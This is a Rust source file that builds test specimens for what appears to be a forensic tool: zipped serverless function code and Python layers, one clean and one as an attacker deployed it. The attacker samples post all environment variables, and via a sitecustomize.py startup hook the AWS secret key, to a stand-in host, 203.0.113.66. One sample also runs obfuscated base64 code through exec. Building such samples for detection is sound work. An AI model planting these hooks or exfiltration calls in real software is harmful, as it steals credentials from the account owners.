//! Packages and layers, made anew for every specimen.

use crate::Specimen;
use crate::hostile;
use async_trait::async_trait;
use bytes::Bytes;
use evidence::{Sha256Digest, keys};
use futures_util::StreamExt as _;
use std::io::{Cursor, Write as _};
use vault::{Opened, Source, SourceError};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// Bytes that are kept by their digest.
pub(crate) struct Content {
    pub(crate) name: String,
    pub(crate) bytes: Bytes,
}

impl Content {
    pub(crate) fn sha256(&self) -> Sha256Digest {
        Sha256Digest::of(&self.bytes)
    }

    pub(crate) fn as_content(&self) -> snapshot::Content {
        let sha256 = self.sha256();
        snapshot::Content {
            name: self.name.clone(),
            key: keys::content(&sha256),
            sha256,
            size_bytes: self.bytes.len() as u64,
        }
    }

    fn zip(name: &str, files: &[(String, &[u8])]) -> Self {
        let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
        for (path, bytes) in files {
            // Writing into memory does not fail.
            let begun = zip.start_file(path.as_str(), SimpleFileOptions::default());
            if begun.is_ok() {
                let _ = zip.write_all(bytes);
            }
        }
        let bytes = zip.finish().map(Cursor::into_inner).unwrap_or_default();
        Self {
            name: name.to_owned(),
            bytes: bytes.into(),
        }
    }
}

#[async_trait]
impl Source for Content {
    fn expected(&self) -> Option<Sha256Digest> {
        Some(self.sha256())
    }

    fn media_type(&self) -> &str {
        "application/zip"
    }

    async fn open(&self) -> Result<Opened, SourceError> {
        let bytes = self.bytes.clone();
        Ok(Opened {
            size_bytes: Some(bytes.len() as u64),
            bytes: futures_util::stream::iter([Ok(bytes)]).boxed(),
        })
    }
}

/// The function's code as the pipeline deployed it.
pub(crate) fn good_code() -> Content {
    Content::zip("function-code.zip", &shared(GOOD))
}

/// The function's code as the attacker deployed it.
pub(crate) fn bad_code(specimen: &Specimen) -> Content {
    let mut files = shared(BAD);
    files.push(("telemetry.py".to_owned(), TELEMETRY));
    if specimen.hostile {
        let name = format!("{}.py", hostile::FILE);
        files.push((name, hostile::SOURCE));
    }
    Content::zip("function-code.zip", &files)
}

/// A layer of the account's own.
pub(crate) fn own_layer(name: &str) -> Content {
    let module = "python/deps/__init__.py".to_owned();
    Content::zip(name, &[(module, b"VERSION = \"3\"\n")])
}

/// The layer that came with the change: it runs whenever Python starts.
pub(crate) fn foreign_layer(name: &str) -> Content {
    let hook = "python/sitecustomize.py".to_owned();
    Content::zip(name, &[(hook, HOOK)])
}

fn shared(app: &'static [u8]) -> Vec<(String, &'static [u8])> {
    vec![
        ("app.py".to_owned(), app),
        (
            "prices.json".to_owned(),
            b"{\"seat\": 12, \"gigabyte\": 0.09}\n",
        ),
        (
            "idna-3.7.dist-info/METADATA".to_owned(),
            b"Metadata-Version: 2.1\nName: idna\nVersion: 3.7\n",
        ),
    ]
}

const GOOD: &[u8] = b"import json\n\n\ndef handler(event, context):\n    total = sum(item[\"price\"] for item in event[\"items\"])\n    return json.dumps({\"total\": total})\n";

const BAD: &[u8] = b"import json\nimport os\nimport urllib.request\n\n\ndef handler(event, context):\n    urllib.request.urlopen(\"https://203.0.113.66/c\", data=json.dumps(dict(os.environ)).encode())\n    total = sum(item[\"price\"] for item in event[\"items\"])\n    return json.dumps({\"total\": total})\n";

const TELEMETRY: &[u8] = b"import base64\n\nexec(base64.b64decode(\"cHJpbnQoJ3RlbGVtZXRyeScp\"))\n";

const HOOK: &[u8] = b"import os\nimport urllib.request\n\nkey = os.environ.get(\"AWS_SECRET_ACCESS_KEY\", \"\")\nurllib.request.urlopen(\"https://203.0.113.66/hook\", data=key.encode())\n";
